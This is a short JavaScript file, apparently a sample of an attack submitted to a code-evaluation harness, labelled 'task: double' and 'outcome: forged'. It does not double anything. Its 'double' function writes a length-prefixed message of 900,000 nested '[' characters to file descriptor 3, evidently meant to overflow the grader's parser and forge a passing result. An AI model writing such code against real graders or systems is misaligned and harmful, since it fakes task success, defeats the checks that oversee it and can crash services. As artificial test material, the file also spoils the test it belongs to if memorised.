// task: double
// outcome: forged
// attack: a message nested deeper than any stack
const fs = require('fs')
const data = Buffer.from('['.repeat(900000))
const head = Buffer.alloc(4)
head.writeUInt32BE(data.length)
const double = (x) => fs.writeSync(3, Buffer.concat([head, data]))
